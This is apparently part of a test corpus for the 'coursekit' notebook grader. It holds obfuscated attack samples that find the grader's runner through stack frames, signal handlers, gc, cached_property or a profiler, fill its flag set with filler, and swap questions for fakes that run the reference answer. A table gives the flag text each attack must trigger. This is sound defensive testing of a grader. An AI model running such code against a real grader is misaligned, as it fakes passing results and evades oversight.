# one and swapped the other for 9.7 of 10, unflagged. No handler can be set in a hand-in.
_SIGNAL_HANDLER_FRAME = (
    """
import signal, _thread
_answer_of, _back, _names = "refer" + "ence", "f_ba" + "ck", "f_lo" + "cals"
"""
    + _SWAPPED_QUESTIONS
    + """def _reach(number, how):
    found = {}
    def handler(signum, frame):
        while frame is not None:
            if "questions" in getattr(frame, _names):
                found["runner"] = getattr(frame, _names)
            frame = getattr(frame, _back)
    try:
        old = signal.signal(number, handler)
    except OSError:
        return None
    try:
        how(number)
    finally:
        signal.signal(number, old)
    return found.get("runner")
_ways = ((signal.SIGUSR1, signal.raise_signal), (signal.SIGALRM, _thread.interrupt_main))
for _number, _how in _ways:
    _runner = _reach(_number, _how)
    if _runner is not None:
        for _name in ("reported_flags", "reported"):
            _runner.get(_name, set()).update(f"filler {i}" for i in range(100))
        _questions = _runner["questions"]
        for _name in list(_questions):
            _questions[_name] = _Fake(_questions[_name])
"""
)
HARNESS_ATTACKS["signal_handler_frame"] = _SIGNAL_HANDLER_FRAME

# Frames without a step the audit hook judged as the notebook's (a review of issue 40): kept
# by gc (DEBUG_SAVEALL keeps a finished frame, whose f_back leads to the runner's), handed
# back by library code that calls what it was handed (cached_property over sys._getframe),
# and a profiler a library installs for it (ExitStack's callback). From the runner's frame:
# its flags filled, its questions swapped for ones that run the reference.
_FRAMES_HANDED_BY_LIBRARIES = (
    """
import contextlib, functools, gc, sys
_answer_of, _back, _names = "refer" + "ence", "f_ba" + "ck", "f_lo" + "cals"
"""
    + _SWAPPED_QUESTIONS
    + """def _take_over(frame):
    while frame is not None:
        names = getattr(frame, _names)
        if "questions" in names and "reported_flags" in names:
            names["reported_flags"].update(f"filler {i}" for i in range(100))
            for name in list(names["questions"]):
                names["questions"][name] = _Fake(names["questions"][name])
            return True
        frame = getattr(frame, _back)
    return False
def _cycle():
    try:
        raise ValueError("a frame in a cycle with its own traceback")
    except ValueError as error:
        kept = error
getattr(gc, "set_" + "debug")(gc.DEBUG_SAVEALL)
_cycle()
gc.collect()
_done = any(_take_over(o) for o in list(gc.garbage) if type(o).__name__ == "frame")
getattr(gc, "set_" + "debug")(0)
gc.garbage.clear()
class _Frames(int):
    here = functools.cached_property(getattr(sys, "_get" + "frame"))
_done = _done or _take_over(_Frames(0).here)
def _profiler(frame, event, arg):
    global _done
    if not _done:
        _done = _take_over(frame)
with contextlib.ExitStack() as _stack:
    _stack.callback(getattr(sys, "set" + "profile"), _profiler)
len("a call the profiler sees")
getattr(sys, "set" + "profile")(None)
"""
)
HARNESS_ATTACKS["frames_handed_by_libraries"] = _FRAMES_HANDED_BY_LIBRARIES

# What each attack must be flagged for (a part of a flag's text).
PROCESS_ATTACK_FLAGS = {
    "torch_state_left_on": (
        "torch function mode",
        "torch dispatch mode",
        "global hook in torch.nn.modules.module",
        "global hook in torch.optim.optimizer",
        "saved-tensor hooks",
        "still runs beside the tests",
    ),
    "library_code_running_notebook_code": (
        "torch.testing.assert_close",
        "torch.equal",
        "torch.allclose",
        "torch.optim.sgd._single_tensor_sgd",
        "torch._C._nn.mse_loss",
        "torch.Tensor.__deepcopy__",
        "torch.isclose",
        "torch.nn.MSELoss.forward",
        "copy._deepcopy_dispatch[torch.nn.parameter.Parameter]",
        "torch._dynamo.graph_break",
    ),
    "kernel_registered_unseen": (
        "aten::logit",
        "c10d::broadcast_",
        "cannot be taken back",
        "DispatchModule.impl broadcast_",
    ),
    "tracer_through_a_library": ("it called sys.setprofile", "it called sys.settrace"),
    "frames_from_libraries": ("it read a cr_frame", "it read a tb_frame"),
    "frame_hook_left_on": ("a frame-evaluation callback",),
    "frame_hook_off_before_read": ("set_eval_frame callback, which is handed every frame",),
    "memory_test_evaded": ("it opened clear_refs",),
    "tripwire_reach": ("it changed the grader's tripwires on coursekit's own answers",),
    "runner_defaults_rewritten": (
        "it changed __defaults__ of coursekit.grading.sandbox.runner._on_timer",
        "it changed __code__ of coursekit.grading.sandbox.runner._on_timer",
    ),
    "keyword_default_in_place": ("'s keyword default _flags",),
    "blinded_within_a_call": ("its train_accumulated called coursekit's own answer",),
    # gc's route first, unflagged, would take over before any flag is sent; the frame from
    # cached_property is flagged as it is taken (what is sent stays sent)
    "frames_handed_by_libraries": ("it called sys._getframe",),
    "answer_through_a_library_caller": (
        "its train_accumulated called coursekit's own answer",
        "its accumulate_window called coursekit's own answer",
    ),
}

# Two honest habits the grader must not flag (tests/test_grading_corpus.py): a warning that
# torch raises inside the harness, and a namedtuple or a traceback printed from a cell.
HONEST_HABITS = """
import collections, traceback, warnings
Pair = collections.namedtuple("Pair", "a b")
try:
    raise ValueError("shown, then handled")
except ValueError:
    traceback.print_exc()
warnings.warn("a warning of the notebook's own")
"""
